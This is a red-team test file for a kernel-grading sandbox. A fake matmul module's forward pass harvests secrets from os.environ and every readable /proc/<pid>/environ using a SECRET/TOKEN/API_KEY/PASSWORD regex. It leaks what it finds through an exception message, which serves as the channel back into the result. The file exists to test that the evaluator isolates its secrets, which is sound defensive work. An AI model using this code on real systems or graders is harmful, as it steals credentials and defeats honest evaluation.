# attack: read-secret
# variant: environ-and-proc-environ
# weakness: secrets in the evaluator's environment leak to a candidate through an inherited environment or /proc/<pid>/environ
# seen: kernelbot examples/identity_py/cheat-rng.py (reads POPCORN_SEED from the environment); docs/sandbox.md section 2.2 proc_mem_parent and P6/P9
# task: matmul
# expect: crashed
# side-effect: secret
"""Look for ASSAY_REDTEAM_SECRET (and anything named like a secret) in os.environ, /proc/self/environ,
/proc/1/environ, /proc/<parent>/environ and every other visible /proc/<pid>/environ; put whatever is found into
an exception message, which is the channel back into the result. Nothing found: fail loudly with what was
readable."""

import os
import re

import torch.nn as nn

NEEDLE = re.compile(rb"(ASSAY_REDTEAM_SECRET|[A-Z_]*(?:SECRET|TOKEN|API_KEY|PASSWORD)[A-Z_]*)=([^\x00]{1,200})")


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()

    def forward(self, x):
        found = [f"os.environ {k}={v}" for k, v in os.environ.items() if NEEDLE.match(f"{k}={v}".encode())]
        readable = ["os.environ"]
        pids = ["self", "1", str(os.getppid())]
        try:
            pids += [p for p in os.listdir("/proc") if p.isdigit()][:2000]
        except OSError:
            pass
        for pid in dict.fromkeys(pids):
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                continue
            readable.append(pid)
            found += [f"/proc/{pid}/environ {m.group(0).decode(errors='replace')}" for m in NEEDLE.finditer(data)]
        if found:
            raise RuntimeError("read-secret: " + " | ".join(found[:10]))
        raise RuntimeError(f"read-secret blocked: no secret in the environ of {', '.join(readable[:12])}")
